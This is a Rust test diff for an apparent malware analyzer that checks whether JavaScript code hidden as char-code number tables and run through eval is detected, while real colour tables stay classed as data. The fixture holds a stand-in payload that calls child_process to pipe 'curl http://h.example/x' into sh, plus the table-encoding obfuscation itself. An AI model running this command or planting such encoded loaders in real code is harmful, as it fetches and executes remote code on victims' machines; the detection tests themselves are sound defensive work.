@@ -36,3 +36,64 @@ fn unknown_or_chains_and_bound_methods_stay_unknown() {
     assert!(!calls.iter().any(|c| c.starts_with("https") || c.starts_with("vm")), "{calls:?}");
     assert!(f.modules.is_empty(), "{:?}", f.modules);
 }
+
+/// `{ "n0": [c, c, c], … }` of the text, three char codes a row.
+fn table(text: &str, rows_as_object: bool) -> String {
+    let mut b = text.as_bytes().to_vec();
+    while b.len() % 3 != 0 {
+        b.push(0);
+    }
+    let rows: Vec<String> = b
+        .chunks(3)
+        .enumerate()
+        .map(|(i, c)| {
+            let row = format!("[{}, {}, {}]", c[0], c[1], c[2]);
+            if rows_as_object {
+                format!("\"tone{i}\": {row}")
+            } else {
+                row
+            }
+        })
+        .collect();
+    if rows_as_object {
+        format!("{{\n{}\n}}", rows.join(",\n"))
+    } else {
+        format!("[\n{}\n]", rows.join(",\n"))
+    }
+}
+
+const STAGE: &str = "const cp = require('child_process'); cp.exec('curl -s http://h.example/x | sh'); var done = 1;";
+
+#[test]
+fn code_spread_over_rows_of_a_number_table_is_analysed() {
+    for as_object in [true, false] {
+        let src = format!(
+            "module.exports = {};\nvar s = ''; Object.keys(module.exports).forEach(function (k) {{ s += String.fromCharCode.apply(null, module.exports[k]); }}); (0, eval)(s);",
+            table(STAGE, as_object)
+        );
+        let f = facts(&src);
+        assert!(
+            f.modules.iter().any(|(m, _)| m == "child_process"),
+            "{as_object}: {:?}",
+            f.modules
+        );
+        assert!(!f.decoded_code.is_empty());
+    }
+}
+
+#[test]
+fn real_number_tables_and_files_without_char_codes_stay_data() {
+    // A colour table: rows outside the printable range break every run.
+    let colours: Vec<String> = (0..200)
+        .map(|i| format!("\"c{i}\": [{}, {}, {}]", (i * 37) % 256, (i * 91) % 256, (i * 53) % 256))
+        .collect();
+    let src = format!(
+        "module.exports = {{ {} }}; const hex = (c) => String.fromCharCode(c[0]);",
+        colours.join(", ")
+    );
+    let f = facts(&src);
+    assert!(f.decoded_code.is_empty() && f.modules.is_empty(), "{:?}", f.modules);
+    // The same code table in a file that never turns numbers into text is only numbers.
+    let f = facts(&format!("module.exports = {};", table(STAGE, true)));
+    assert!(f.modules.is_empty() && f.decoded_code.is_empty());
+}
